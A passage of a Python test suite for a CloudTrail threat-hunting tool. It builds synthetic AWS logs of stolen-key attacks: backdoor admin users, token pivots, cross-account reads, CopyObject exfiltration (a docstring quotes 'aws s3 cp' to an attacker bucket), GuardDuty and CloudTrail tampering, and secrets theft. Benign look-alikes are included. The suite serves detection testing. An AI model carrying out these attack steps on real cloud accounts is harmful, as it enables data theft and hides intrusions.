"""`trailhound hunt` on hand-made attack variants that differ from the built-in simulator.

Detection is judged on attack corpora built independently of `trailhound simulate`, so these
corpora are written by hand, record by record, in the shapes AWS documents (tests/cloudtrail.py),
each with realistic benign background:

- the stolen key's owner, a CI pipeline (`ci-deploy`), deploys every two hours from its runners
  with its own user agent for five days, before, during and after the attack (its deploy step
  calls sts:GetCallerIdentity, as aws-actions/configure-aws-credentials does);
- an administrator working from the office, and a web application role reading its assets.

Each attack test asserts what a responder needs from `incidents.json` (CONTRACT.md): one
incident of severity high or critical; its `access_keys` hold the stolen key and every key or
session derived from it; the attacker's IPs are in `source_ips` and the owner's runners are
not; bytes read are summed when data events carry them. Each benign look-alike asserts that it
produces no high or critical incident.

A test that fails on the current code is marked `xfail(strict=True)` with the reason found in
the output and the code, never weakened to pass.
"""

from __future__ import annotations

import json
from datetime import timedelta
from typing import Any

import cloudtrail as ct
from correlate.handmade import (
    ACCT,
    ADMIN_IP,
    ADMIN_KEY,
    ADMIN_UA,
    APP_IP,
    APP_UA,
    ATK1,
    ATK2,
    ATK3,
    ATK_BOTO,
    ATK_CLI,
    CI_ARN,
    CI_KEY,
    CI_UA,
    CI_USER,
    DAYS,
    OTHER,
    RUNNERS,
    T0,
    THEFT,
    api,
    assert_attack_incident,
    assert_no_severe_incident,
    assume_role_pair,
    attach_admin,
    background,
    ci,
    ci_key_switch,
    create_access_key,
    create_user,
    federated,
    get_caller_identity,
    get_object,
    list_buckets,
    list_objects,
    mass_read,
    plan_bytes,
    run_hunt,
    s3_data,
    session_user,
    sts_credentials,
    ts,
    user,
)

# --------------------------------------------------------------------------- 1


def test_v1_new_backdoor_user_with_admin_and_mass_reads(cli, tmp_path):
    """Validate with GetCallerIdentity (plain aws-cli, no TruffleHog), create a NEW user, a
    key for it, attach AdministratorAccess; the new key lists buckets and reads many objects
    (with bytesTransferredOut) from another IP, while CI keeps deploying."""
    recs = background()
    t = THEFT
    new_key = "AKIABACKDOOR00000001"
    recs += [
        get_caller_identity(ci(), t, ATK1, ATK_CLI),
        api("ListUsers", "iam.amazonaws.com", ci(), t + timedelta(minutes=3), ATK1, ATK_CLI,
            region="us-east-1"),
        create_user(ci(), t + timedelta(minutes=10), ATK1, ATK_CLI, "svc-backup-sync"),
        create_access_key(ci(), t + timedelta(minutes=11), ATK1, ATK_CLI, "svc-backup-sync",
                          new_key),
        attach_admin(ci(), t + timedelta(minutes=12), ATK1, ATK_CLI, "svc-backup-sync"),
    ]
    nk = user("svc-backup-sync", new_key)
    t2 = t + timedelta(hours=3)
    recs.append(list_buckets(nk, t2, ATK2, ATK_BOTO))
    for i, b in enumerate(("tenant-mail-archive", "tenant-db-dumps")):
        recs.append(list_objects(nk, t2 + timedelta(minutes=1, seconds=i), ATK2, ATK_BOTO, b))
    plan = {"tenant-mail-archive": 120, "tenant-db-dumps": 60}
    recs += mass_read(nk, t2 + timedelta(minutes=5), ATK2, ATK_BOTO, plan, 4_000_000)

    res = run_hunt(cli, tmp_path, recs)
    inc = assert_attack_incident(
        res, keys={CI_KEY, new_key}, attacker_ips={ATK1, ATK2},
        stages={"persistence", "privilege-escalation", "collection"},
        buckets=plan_bytes(plan, 4_000_000))
    assert inc["severity"] == "critical", res.summary()
    assert f"arn:aws:iam::{ACCT}:user/svc-backup-sync" in inc["principals"]


# --------------------------------------------------------------------------- 2


def _session_token_attack(obtain: str, validator: str = ATK_CLI
                          ) -> tuple[list[dict[str, Any]], str, dict[str, int]]:
    """The stolen AKIA key is turned into temporary credentials (GetSessionToken or
    GetFederationToken with an allow-all policy); only the ASIA key does the rest."""
    recs = background()
    t = THEFT
    asia = "ASIATEMPSESSION00001"
    recs.append(get_caller_identity(ci(), t, ATK1, validator))
    if obtain == "GetSessionToken":
        recs.append(api("GetSessionToken", "sts.amazonaws.com", ci(), t + timedelta(minutes=2),
                        ATK1, ATK_CLI, read_only=True, request={"durationSeconds": 129600},
                        response={"credentials": sts_credentials(asia, t)}))
        sess = session_user(CI_USER, asia, t + timedelta(minutes=2))
    else:
        recs.append(api(
            "GetFederationToken", "sts.amazonaws.com", ci(), t + timedelta(minutes=2), ATK1,
            ATK_CLI, read_only=True,
            request={"name": "ops", "durationSeconds": 129600,
                     "policy": '{"Version":"2012-10-17","Statement":[{"Effect":"Allow",'
                               '"Action":"*","Resource":"*"}]}'},
            response={"credentials": sts_credentials(asia, t),
                      "federatedUser": {"federatedUserId": f"{ACCT}:ops",
                                        "arn": f"arn:aws:sts::{ACCT}:federated-user/ops"},
                      "packedPolicySize": 9}))
        sess = federated("ops", asia, CI_USER, t + timedelta(minutes=2))
    t2 = t + timedelta(minutes=30)
    recs += [
        get_caller_identity(sess, t2, ATK2, ATK_BOTO),
        api("ListUsers", "iam.amazonaws.com", sess, t2 + timedelta(minutes=1), ATK2, ATK_BOTO,
            region="us-east-1"),
        api("ListRoles", "iam.amazonaws.com", sess, t2 + timedelta(minutes=1, seconds=5), ATK2,
            ATK_BOTO, region="us-east-1"),
        list_buckets(sess, t2 + timedelta(minutes=3), ATK2, ATK_BOTO),
    ]
    for i, b in enumerate(("tenant-mail-archive", "tenant-db-dumps", "tenant-docs")):
        recs.append(list_objects(sess, t2 + timedelta(minutes=4, seconds=i), ATK2, ATK_BOTO, b))
    plan = {"tenant-mail-archive": 150, "tenant-docs": 50}
    recs += mass_read(sess, t2 + timedelta(minutes=10), ATK2, ATK_BOTO, plan, 2_500_000)
    return recs, asia, plan


def test_v2a_get_session_token_then_discovery_and_mass_reads(cli, tmp_path):
    recs, asia, plan = _session_token_attack("GetSessionToken")
    res = run_hunt(cli, tmp_path, recs)
    assert_attack_incident(res, keys={CI_KEY, asia}, attacker_ips={ATK1, ATK2},
                           stages={"discovery", "collection"},
                           buckets=plan_bytes(plan, 2_500_000))


def test_v2b_get_federation_token_then_discovery_and_mass_reads(cli, tmp_path):
    recs, asia, plan = _session_token_attack("GetFederationToken")
    res = run_hunt(cli, tmp_path, recs)
    inc = assert_attack_incident(res, keys={CI_KEY, asia}, attacker_ips={ATK1, ATK2},
                                 stages={"discovery", "collection"},
                                 buckets=plan_bytes(plan, 2_500_000))
    assert f"arn:aws:sts::{ACCT}:federated-user/ops" in inc["principals"], res.summary()


def test_v2c_session_token_lineage_when_the_stolen_key_is_flagged(cli, tmp_path):
    """Control for v2a: the same attack, but validated with TruffleHog, which makes the stolen
    key compromised on its own. Isolates the lineage edge AKIA -> GetSessionToken -> ASIA from
    detection."""
    recs, asia, plan = _session_token_attack(
        "GetSessionToken", validator="TruffleHog/3.63.2 (+https://trufflesecurity.com)")
    res = run_hunt(cli, tmp_path, recs)
    assert_attack_incident(res, keys={CI_KEY, asia}, attacker_ips={ATK1, ATK2},
                           stages={"discovery", "collection"},
                           buckets=plan_bytes(plan, 2_500_000))


# --------------------------------------------------------------------------- 3


def data_role_history(days: int = DAYS) -> list[dict[str, Any]]:
    """In the other account, the analytics job's role reads its lake every night."""
    out = []
    for d in range(days):
        s = ct.assumed_role_identity("data-reader", f"etl-{d}", f"ASIAETLJOB0000000{d:03d}",
                                     OTHER)
        for i in range(6):
            out.append(get_object(s, T0 + timedelta(days=d, hours=1, minutes=i), "3.251.7.9",
                                  APP_UA, "analytics-lake", f"daily/{d}/{i}.parquet", 900_000,
                                  owner=OTHER, account=OTHER))
    return out


def test_v3a_assume_role_into_another_account_reads_s3_there(cli, tmp_path):
    recs = background() + data_role_history()
    t = THEFT
    asia = "ASIAXACCTSESSION0001"
    role = f"arn:aws:iam::{OTHER}:role/data-reader"
    recs.append(get_caller_identity(ci(), t, ATK1, ATK_CLI))
    recs += assume_role_pair(ci(), t + timedelta(minutes=5), ATK1, ATK_CLI, role,
                             "botocore-session-1710813900", asia, "shared-v3a-hop")
    sess = ct.assumed_role_identity("data-reader", "botocore-session-1710813900", asia, OTHER)
    t2 = t + timedelta(minutes=20)
    recs.append(list_buckets(sess, t2, ATK1, ATK_CLI, account=OTHER))
    plan = {"analytics-lake": 80, "customer-exports": 120}
    recs += mass_read(sess, t2 + timedelta(minutes=2), ATK1, ATK_CLI, plan, 3_000_000,
                      account=OTHER)
    res = run_hunt(cli, tmp_path, recs)
    inc = assert_attack_incident(res, keys={CI_KEY, asia}, attacker_ips={ATK1},
                                 stages={"lateral-movement", "collection"},
                                 buckets=plan_bytes(plan, 3_000_000))
    assert set(inc["accounts"]) == {ACCT, OTHER}, res.summary()
    assert {b["account"] for b in inc["resources"]["s3_buckets"]} == {OTHER}


def test_v3b_assume_the_pipelines_own_cross_account_role(cli, tmp_path):
    """The CI key assumes a deploy role in the production account on every run; the attacker
    assumes the same role (the account is not new for the key), with a session name in the
    pipeline's own shape, and reads the production account's exports."""
    recs = background()
    role = f"arn:aws:iam::{OTHER}:role/deploy"
    for n, t in enumerate(T0 + timedelta(hours=2 * i, minutes=1) for i in range(DAYS * 12)):
        ip = RUNNERS[n % len(RUNNERS)]
        key = f"ASIADEPLOYRUN{n:07d}"
        recs += assume_role_pair(ci(), t, ip, CI_UA, role, f"gha-run-{4000 + n}", key,
                                 f"shared-v3b-{n}")
        s = ct.assumed_role_identity("deploy", f"gha-run-{4000 + n}", key, OTHER)
        recs.append(api("UpdateService", "ecs.amazonaws.com", s, t + timedelta(seconds=40), ip,
                        CI_UA, account=OTHER, request={"cluster": "prod", "service": "api"}))
    t = THEFT + timedelta(minutes=30)
    asia = "ASIAXACCTSESSION0002"
    recs.append(get_caller_identity(ci(), t, ATK1, ATK_CLI))
    recs += assume_role_pair(ci(), t + timedelta(minutes=3), ATK1, ATK_CLI, role,
                             "gha-run-9999", asia, "shared-v3b-attack")
    sess = ct.assumed_role_identity("deploy", "gha-run-9999", asia, OTHER)
    t2 = t + timedelta(minutes=15)
    recs.append(list_buckets(sess, t2, ATK3, ATK_CLI, account=OTHER))
    recs.append(list_objects(sess, t2 + timedelta(minutes=1), ATK3, ATK_CLI, "customer-exports",
                             owner=OTHER, account=OTHER))
    plan = {"customer-exports": 200}
    recs += mass_read(sess, t2 + timedelta(minutes=2), ATK3, ATK_CLI, plan, 3_000_000,
                      account=OTHER)
    res = run_hunt(cli, tmp_path, recs)
    inc = assert_attack_incident(res, keys={CI_KEY, asia}, attacker_ips={ATK1, ATK3},
                                 stages={"collection"}, buckets=plan_bytes(plan, 3_000_000))
    assert set(inc["accounts"]) == {ACCT, OTHER}, res.summary()


# --------------------------------------------------------------------------- 4

EXFIL_ACCOUNT = "999988887777"


def test_v4a_copy_object_to_an_external_bucket(cli, tmp_path):
    """No GetObject at all: `aws s3 cp --recursive s3://victim s3://attacker` lists the source
    and issues server-side CopyObject calls into a bucket of the attacker's account."""
    recs = background()
    t = THEFT
    recs += [get_caller_identity(ci(), t, ATK1, ATK_CLI),
             list_buckets(ci(), t + timedelta(minutes=2), ATK1, ATK_CLI),
             list_objects(ci(), t + timedelta(minutes=3), ATK1, ATK_CLI, "tenant-mail-archive")]
    copies = []
    for i in range(150):
        src_key = f"export/{i:05d}.gz"
        rec = s3_data("CopyObject", ci(), t + timedelta(minutes=5, seconds=2 * i), ATK1, ATK_CLI,
                      "exfil-drop-7731", f"loot/{src_key}", owner=EXFIL_ACCOUNT,
                      read_only=False,
                      request={"x-amz-copy-source": f"tenant-mail-archive/{src_key}"})
        rec["resources"][-1].pop("accountId")  # a foreign bucket: CloudTrail omits its owner
        copies.append(rec)
    recs += copies
    res = run_hunt(cli, tmp_path, recs)
    inc = assert_attack_incident(res, keys={CI_KEY}, attacker_ips={ATK1},
                                 stages={"exfiltration"})
    copied = {e["event_id"] for e in res.evidence(inc) if e["event_name"] == "CopyObject"
              and e["attribution"] == "attacker"}
    assert copied == {c["eventID"] for c in copies}


def _bucket_exposure() -> list[dict[str, Any]]:
    t = THEFT
    policy = json.dumps({"Version": "2012-10-17", "Statement": [{
        "Sid": "PublicRead", "Effect": "Allow", "Principal": "*", "Action": "s3:GetObject",
        "Resource": "arn:aws:s3:::tenant-docs/*"}]})
    replication = {"Role": f"arn:aws:iam::{ACCT}:role/s3-replication",
                   "Rule": {"ID": "dr", "Status": "Enabled", "Priority": 1,
                            "Filter": {"Prefix": ""},
                            "DeleteMarkerReplication": {"Status": "Disabled"},
                            "Destination": {"Bucket": "arn:aws:s3:::dr-copy-5521",
                                            "Account": EXFIL_ACCOUNT,
                                            "AccessControlTranslation": {"Owner": "Destination"}}}}
    mgmt = {"source": "s3.amazonaws.com", "identity": ci(), "ip": ATK1, "ua": ATK_CLI}
    return [
        get_caller_identity(ci(), t, ATK1, ATK_CLI),
        list_buckets(ci(), t + timedelta(minutes=2), ATK1, ATK_CLI),
        ct.record("GetBucketPolicy", time=ts(t + timedelta(minutes=3)), read_only=True,
                  request={"bucketName": "tenant-docs", "policy": ""}, **mgmt),
        ct.record("DeleteBucketPublicAccessBlock", time=ts(t + timedelta(minutes=4)),
                  request={"bucketName": "tenant-docs", "publicAccessBlock": ""}, **mgmt),
        ct.record("PutBucketPolicy", time=ts(t + timedelta(minutes=5)),
                  request={"bucketName": "tenant-docs", "bucketPolicy": json.loads(policy),
                           "policy": ""}, **mgmt),
        ct.record("PutBucketVersioning", time=ts(t + timedelta(minutes=7)),
                  request={"bucketName": "tenant-db-dumps",
                           "VersioningConfiguration": {"Status": "Enabled"},
                           "versioning": ""}, **mgmt),
        ct.record("PutBucketReplication", time=ts(t + timedelta(minutes=8)),
                  request={"bucketName": "tenant-db-dumps",
                           "ReplicationConfiguration": replication, "replication": ""},
                  **mgmt),
    ]


def test_v4b_bucket_made_public_and_replicated_to_another_account(cli, tmp_path):
    """Exfiltration by configuration: the stolen key removes the public access block, makes a
    bucket world-readable, and replicates another to a bucket in the attacker's account."""
    recs = background() + _bucket_exposure()
    res = run_hunt(cli, tmp_path, recs)
    assert_attack_incident(res, keys={CI_KEY}, attacker_ips={ATK1}, stages={"exfiltration"})


# --------------------------------------------------------------------------- 5


def test_v5_defense_evasion_mixed_into_the_theft(cli, tmp_path):
    """The stolen key blinds detection (GuardDuty DeleteDetector, StopLogging on the account
    trail; the organisation trail still records), reads data, then deletes the trail."""
    recs = background()
    t = THEFT
    ev = {"identity": ci(), "ip": ATK1, "ua": ATK_BOTO}
    recs += [
        get_caller_identity(ci(), t, ATK1, ATK_BOTO),
        ct.record("ListDetectors", source="guardduty.amazonaws.com", read_only=True,
                  time=ts(t + timedelta(minutes=1)), **ev),
        ct.record("DeleteDetector", source="guardduty.amazonaws.com",
                  time=ts(t + timedelta(minutes=2)),
                  request={"detectorId": "12abc34d567e8fa901bc2d34e56789f0"}, **ev),
        ct.record("DescribeTrails", source="cloudtrail.amazonaws.com", read_only=True,
                  time=ts(t + timedelta(minutes=3)), **ev),
        ct.record("StopLogging", source="cloudtrail.amazonaws.com",
                  time=ts(t + timedelta(minutes=4)),
                  request={"name": f"arn:aws:cloudtrail:eu-west-1:{ACCT}:trail/account-trail"},
                  **ev),
        list_buckets(ci(), t + timedelta(minutes=6), ATK1, ATK_BOTO),
    ]
    plan = {"tenant-db-dumps": 100}
    recs += mass_read(ci(), t + timedelta(minutes=8), ATK1, ATK_BOTO, plan, 8_000_000)
    recs.append(ct.record("DeleteTrail", source="cloudtrail.amazonaws.com",
                          time=ts(t + timedelta(hours=1)),
                          request={"name": f"arn:aws:cloudtrail:eu-west-1:{ACCT}:trail/"
                                           "account-trail"}, **ev))
    res = run_hunt(cli, tmp_path, recs)
    inc = assert_attack_incident(res, keys={CI_KEY}, attacker_ips={ATK1},
                                 stages={"defense-evasion", "collection"},
                                 buckets=plan_bytes(plan, 8_000_000))
    assert inc["severity"] == "critical", res.summary()
    assert any(a["action"] == "restore-logging" for a in inc["recommended_actions"])


# --------------------------------------------------------------------------- 6


def test_v6_attacker_copies_the_owners_user_agent(cli, tmp_path):
    """The attacker sends the pipeline's exact user agent (exec-env/GitHubActions included),
    from new IPs only, with behaviour the pipeline never had, while the pipeline keeps
    deploying concurrently."""
    recs = background()
    t = THEFT
    new_key = "AKIAWEBADMINNEW00001"
    recs += [
        get_caller_identity(ci(), t, ATK1, CI_UA),
        api("ListUsers", "iam.amazonaws.com", ci(), t + timedelta(minutes=2), ATK1, CI_UA,
            region="us-east-1"),
        api("ListAccessKeys", "iam.amazonaws.com", ci(), t + timedelta(minutes=3), ATK1, CI_UA,
            region="us-east-1", request={"userName": "web-admin"}),
        create_access_key(ci(), t + timedelta(minutes=5), ATK1, CI_UA, "web-admin", new_key),
    ]
    wa = user("web-admin", new_key)
    t2 = t + timedelta(hours=2)
    recs.append(list_buckets(wa, t2, ATK2, CI_UA))
    plan = {"tenant-mail-archive": 200}
    recs += mass_read(wa, t2 + timedelta(minutes=2), ATK2, CI_UA, plan, 1_500_000)
    res = run_hunt(cli, tmp_path, recs)
    assert_attack_incident(res, keys={CI_KEY, new_key}, attacker_ips={ATK1, ATK2},
                           stages={"persistence", "collection"},
                           buckets=plan_bytes(plan, 1_500_000))


# --------------------------------------------------------------------------- 7

RECON = (  # (source, eventName, error): what an enumerator tries, most of it denied
    ("iam.amazonaws.com", "ListUsers", "AccessDenied"),
    ("iam.amazonaws.com", "ListRoles", "AccessDenied"),
    ("iam.amazonaws.com", "GetAccountAuthorizationDetails", "AccessDenied"),
    ("iam.amazonaws.com", "ListPolicies", "AccessDenied"),
    ("ec2.amazonaws.com", "DescribeInstances", "Client.UnauthorizedOperation"),
    ("ec2.amazonaws.com", "DescribeSnapshots", "Client.UnauthorizedOperation"),
    ("ec2.amazonaws.com", "DescribeVpcs", "Client.UnauthorizedOperation"),
    ("rds.amazonaws.com", "DescribeDBInstances", "AccessDenied"),
    ("lambda.amazonaws.com", "ListFunctions20150331", "AccessDeniedException"),
    ("secretsmanager.amazonaws.com", "ListSecrets", "AccessDeniedException"),
    ("kms.amazonaws.com", "ListKeys", "AccessDeniedException"),
    ("dynamodb.amazonaws.com", "ListTables", "AccessDeniedException"),
    ("cloudtrail.amazonaws.com", "DescribeTrails", "AccessDenied"),
    ("ecs.amazonaws.com", "ListClusters", None),
    ("ecs.amazonaws.com", "DescribeServices", None),
    ("s3.amazonaws.com", "ListBuckets", None),
    ("sts.amazonaws.com", "GetCallerIdentity", None),
)


def _recon_then_reads_corpus(pace: timedelta, reads_after: timedelta
                             ) -> tuple[list[dict[str, Any]], dict[str, int]]:
    """The enumeration of RECON twice over, one call per `pace`, mostly denied; then, after
    `reads_after`, what the key may do: list a bucket and read it."""
    recs = background()
    t = THEFT
    for i, (src, name, err) in enumerate(RECON * 2):
        kw: dict[str, Any] = {"region": "us-east-1" if src == "iam.amazonaws.com" else
                              "eu-west-1"}
        if err:
            kw["errorCode"] = err
            kw["errorMessage"] = (f"User: {CI_ARN} is not authorized to perform: "
                                  f"{src.split('.')[0]}:{name}")
        recs.append(api(name, src, ci(), t + pace * i, ATK1, ATK_BOTO, **kw))
    t2 = t + reads_after
    recs.append(list_objects(ci(), t2, ATK1, ATK_BOTO, "tenant-docs"))
    plan = {"tenant-docs": 150}
    recs += mass_read(ci(), t2 + timedelta(minutes=1), ATK1, ATK_BOTO, plan, 600_000)
    return recs, plan


def test_v7_noisy_recon_with_access_denied_before_success(cli, tmp_path):
    """A burst of enumeration across services, mostly AccessDenied, then what the key may do:
    list the buckets and read one."""
    recs, plan = _recon_then_reads_corpus(timedelta(seconds=15), timedelta(minutes=20))
    res = run_hunt(cli, tmp_path, recs)
    assert_attack_incident(res, keys={CI_KEY}, attacker_ips={ATK1},
                           stages={"discovery", "collection"}, buckets=plan_bytes(plan, 600_000))


def test_v7b_paced_recon_with_access_denied_before_success(cli, tmp_path):
    """The same enumeration, paced at one call a minute: 34 calls, 22 of them denied, over
    half an hour, so no 10-minute window holds 15 distinct APIs (even with the pipeline's own
    calls, which share the entity)."""
    recs, plan = _recon_then_reads_corpus(timedelta(seconds=60), timedelta(minutes=40))
    res = run_hunt(cli, tmp_path, recs)
    assert_attack_incident(res, keys={CI_KEY}, attacker_ips={ATK1},
                           stages={"discovery", "collection"}, buckets=plan_bytes(plan, 600_000))


# --------------------------------------------------------------------------- 8


def test_v8_secrets_theft(cli, tmp_path):
    """ListSecrets, then every secret's value, then SSM SecureString parameters decrypted."""
    recs = background()
    t = THEFT
    recs.append(get_caller_identity(ci(), t, ATK1, ATK_BOTO))
    recs.append(api("ListSecrets", "secretsmanager.amazonaws.com", ci(),
                    t + timedelta(minutes=1), ATK1, ATK_BOTO, request={"maxResults": 100}))
    names = ["prod/db/master", "prod/stripe/api", "prod/smtp", "prod/github-app",
             "prod/jwt-signing", "prod/redis", "prod/sentry", "prod/datadog", "prod/ldap-bind",
             "prod/oauth/google", "prod/oauth/azure", "prod/backup-encryption"]
    for i, n in enumerate(names):
        recs.append(api("GetSecretValue", "secretsmanager.amazonaws.com", ci(),
                        t + timedelta(minutes=2, seconds=10 * i), ATK1, ATK_BOTO,
                        request={"secretId": f"arn:aws:secretsmanager:eu-west-1:{ACCT}:secret:"
                                             f"{n}-AbCdEf"}))
    recs.append(api("DescribeParameters", "ssm.amazonaws.com", ci(), t + timedelta(minutes=5),
                    ATK1, ATK_BOTO))
    for i in range(4):
        recs.append(api("GetParameters", "ssm.amazonaws.com", ci(),
                        t + timedelta(minutes=6, seconds=5 * i), ATK1, ATK_BOTO,
                        request={"names": [f"/prod/app{i}/db-password",
                                           f"/prod/app{i}/api-key"],
                                 "withDecryption": True}))
    res = run_hunt(cli, tmp_path, recs)
    inc = assert_attack_incident(res, keys={CI_KEY}, attacker_ips={ATK1},
                                 stages={"collection"})
    assert any(a["rule_id"] == "credential_access_secrets_retrieval_spree"
               for a in inc["alerts"]), res.summary()


# --------------------------------------------------------------------------- 9


def test_v9a_admin_rotates_her_own_key(cli, tmp_path):
    """alice-admin, from her desk: list her keys, create a new one for herself, switch to it,
    deactivate and delete the old one."""
    recs = background()
    old = user("alice-admin", ADMIN_KEY)
    new_key = "AKIAALICENEWKEY00001"
    new = user("alice-admin", new_key)
    t = T0 + timedelta(days=3, hours=9, minutes=30)
    recs += [
        get_caller_identity(old, t, ADMIN_IP, ADMIN_UA),
        api("ListAccessKeys", "iam.amazonaws.com", old, t + timedelta(minutes=1), ADMIN_IP,
            ADMIN_UA, region="us-east-1"),
        create_access_key(old, t + timedelta(minutes=2), ADMIN_IP, ADMIN_UA, None, new_key),
        get_caller_identity(new, t + timedelta(minutes=4), ADMIN_IP, ADMIN_UA),
        list_buckets(new, t + timedelta(minutes=5), ADMIN_IP, ADMIN_UA),
        api("UpdateAccessKey", "iam.amazonaws.com", new, t + timedelta(minutes=6), ADMIN_IP,
            ADMIN_UA, region="us-east-1",
            request={"accessKeyId": ADMIN_KEY, "status": "Inactive"}),
        api("DeleteAccessKey", "iam.amazonaws.com", new, t + timedelta(minutes=8), ADMIN_IP,
            ADMIN_UA, region="us-east-1", request={"accessKeyId": ADMIN_KEY}),
    ]
    # From then on she works with the new key.
    for d in (3, 4):
        for h in (11, 14, 17):
            tt = T0 + timedelta(days=d, hours=h, minutes=20)
            recs.append(api("ListUsers", "iam.amazonaws.com", new, tt, ADMIN_IP, ADMIN_UA,
                            region="us-east-1"))
    res = run_hunt(cli, tmp_path, recs)
    assert_no_severe_incident(res)


def test_v9b_admin_rotates_the_pipelines_key(cli, tmp_path):
    """alice-admin issues ci-deploy a new key from her desk (CreateAccessKey for another
    user), the pipeline switches to it on its next run, she deletes the old one."""
    new_ci = "AKIACIDEPLOYROTATED1"
    switch = T0 + timedelta(days=3, hours=10)
    recs = ci_key_switch(new_ci, switch)
    admin = user("alice-admin", ADMIN_KEY)
    t = switch - timedelta(minutes=20)
    recs += [
        api("ListAccessKeys", "iam.amazonaws.com", admin, t, ADMIN_IP, ADMIN_UA,
            region="us-east-1", request={"userName": CI_USER}),
        create_access_key(admin, t + timedelta(minutes=1), ADMIN_IP, ADMIN_UA, CI_USER, new_ci),
        api("PutSecretValue", "secretsmanager.amazonaws.com", admin, t + timedelta(minutes=3),
            ADMIN_IP, ADMIN_UA, request={"secretId": "ci/aws-deploy-key"}),
        api("DeleteAccessKey", "iam.amazonaws.com", admin, switch + timedelta(hours=3),
            ADMIN_IP, ADMIN_UA, region="us-east-1",
            request={"userName": CI_USER, "accessKeyId": CI_KEY}),
    ]
    res = run_hunt(cli, tmp_path, recs)
    assert_no_severe_incident(res)


BACKUP_KEY = "AKIABACKUPSVC0000001"
BACKUP_IP = "192.0.2.200"
BACKUP_UA = "rclone/v1.66.0"
BACKUP_BUCKETS = ("tenant-mail-archive", "tenant-db-dumps", "tenant-docs", "web-assets",
                  "releases", "analytics")


def test_v9c_nightly_backup_then_monthly_full_backup(cli, tmp_path):
    """A backup server reads every bucket each night from its usual address (incremental, two
    passes); on the last night the monthly full backup reads 250 objects, 2.5 GB, in one
    hour: far above the job's own hourly normal, from the same host and tool."""
    recs = background()
    ident = user("backup-svc", BACKUP_KEY)
    for d in range(DAYS):
        night = T0 + timedelta(days=d, hours=1)
        recs.append(list_buckets(ident, night, BACKUP_IP, BACKUP_UA))
        for i, b in enumerate(BACKUP_BUCKETS):
            recs.append(list_objects(ident, night + timedelta(seconds=5 + i), BACKUP_IP,
                                     BACKUP_UA, b))
        full = d == DAYS - 1
        for p, start in enumerate((night + timedelta(minutes=1), night + timedelta(hours=2))):
            n = 250 if full and p == 0 else 10
            for i in range(n):
                b = BACKUP_BUCKETS[i % len(BACKUP_BUCKETS)]
                recs.append(get_object(ident, start + timedelta(seconds=3 * i), BACKUP_IP,
                                       BACKUP_UA, b, f"{'full' if full else 'inc'}/{d}/{p}/{i}",
                                       10_000_000))
    res = run_hunt(cli, tmp_path, recs)
    assert_no_severe_incident(res)


TF_KEY = "AKIATERRAFORMCI00001"
TF_RUNNERS = ("52.4.8.20", "52.4.8.21")
TF_UA = ("APN/1.0 HashiCorp/1.0 Terraform/1.7.5 (+https://www.terraform.io) "
         "terraform-provider-aws/5.40.0 (+https://registry.terraform.io/providers/hashicorp/aws) "
         "aws-sdk-go-v2/1.25.2 os/linux lang/go#1.21.8 md/GOOS#linux md/GOARCH#amd64 "
         "api/iam#1.31.1")
TF_PLAN = (("sts.amazonaws.com", "GetCallerIdentity"), ("iam.amazonaws.com", "GetRole"),
           ("iam.amazonaws.com", "GetPolicy"), ("iam.amazonaws.com", "GetPolicyVersion"),
           ("iam.amazonaws.com", "ListAttachedRolePolicies"), ("iam.amazonaws.com", "GetUser"),
           ("ec2.amazonaws.com", "DescribeVpcs"), ("s3.amazonaws.com", "GetBucketPolicy"))


def test_v9d_terraform_apply_with_many_iam_writes(cli, tmp_path):
    """The infrastructure pipeline plans every morning from its runners; on day 3 it applies a
    change: new roles and policies, a service user with a key, AdministratorAccess on the
    break-glass role. The service then uses its key from the application host."""
    recs = background()
    tf = user("terraform-ci", TF_KEY)
    for d in range(DAYS):
        for run in range(2):
            t = T0 + timedelta(days=d, hours=8 + 6 * run)
            ip = TF_RUNNERS[(d + run) % 2]
            for i, (src, name) in enumerate(TF_PLAN):
                recs.append(api(name, src, tf, t + timedelta(seconds=2 * i), ip, TF_UA,
                                region="us-east-1" if src == "iam.amazonaws.com" else
                                "eu-west-1"))
    t = T0 + timedelta(days=3, hours=9)
    ip = TF_RUNNERS[0]
    writes: list[dict[str, Any]] = []
    for i in range(6):
        role = f"svc-role-{i}"
        writes += [
            api("CreateRole", "iam.amazonaws.com", tf, t + timedelta(seconds=10 * i), ip,
                TF_UA, region="us-east-1", request={"roleName": role}),
            api("PutRolePolicy", "iam.amazonaws.com", tf, t + timedelta(seconds=10 * i + 2),
                ip, TF_UA, region="us-east-1",
                request={"roleName": role, "policyName": "inline",
                         "policyDocument": '{"Statement":[{"Effect":"Allow","Action":'
                                           '"s3:GetObject","Resource":"*"}]}'}),
            api("AttachRolePolicy", "iam.amazonaws.com", tf, t + timedelta(seconds=10 * i + 4),
                ip, TF_UA, region="us-east-1",
                request={"roleName": role,
                         "policyArn": "arn:aws:iam::aws:policy/CloudWatchAgentServerPolicy"}),
            api("TagRole", "iam.amazonaws.com", tf, t + timedelta(seconds=10 * i + 6), ip,
                TF_UA, region="us-east-1", request={"roleName": role}),
        ]
    svc_key = "AKIAREPORTINGSVC0001"
    t2 = t + timedelta(minutes=2)
    writes += [
        api("AttachRolePolicy", "iam.amazonaws.com", tf, t2, ip, TF_UA, region="us-east-1",
            request={"roleName": "break-glass",
                     "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
        create_user(tf, t2 + timedelta(seconds=5), ip, TF_UA, "svc-reporting"),
        create_access_key(tf, t2 + timedelta(seconds=8), ip, TF_UA, "svc-reporting", svc_key),
        api("PutUserPolicy", "iam.amazonaws.com", tf, t2 + timedelta(seconds=9), ip, TF_UA,
            region="us-east-1",
            request={"userName": "svc-reporting", "policyName": "reports-read",
                     "policyDocument": '{"Statement":[{"Effect":"Allow","Action":'
                                       '"s3:GetObject","Resource":"arn:aws:s3:::reports/*"}]}'}),
    ]
    recs += writes
    svc = user("svc-reporting", svc_key)
    for h in range(4):
        for i in range(5):
            recs.append(get_object(svc, t + timedelta(hours=1 + 6 * h, seconds=i), APP_IP,
                                   APP_UA, "reports", f"daily/{h}/{i}.csv", 40_000))
    res = run_hunt(cli, tmp_path, recs)
    assert_no_severe_incident(res)


def test_v9e_terraform_issues_a_key_to_a_saas_integration(cli, tmp_path):
    """A harder look-alike: the infrastructure pipeline (usual runner, usual agent, inside a
    large apply) creates a user and key for a SaaS backup vendor; the vendor's platform then
    lists every bucket and copies one from its own addresses, as such services do."""
    recs = background()
    tf = user("terraform-ci", TF_KEY)
    for d in range(DAYS):
        for run in range(2):
            t = T0 + timedelta(days=d, hours=8 + 6 * run)
            ip = TF_RUNNERS[(d + run) % 2]
            for i, (src, name) in enumerate(TF_PLAN):
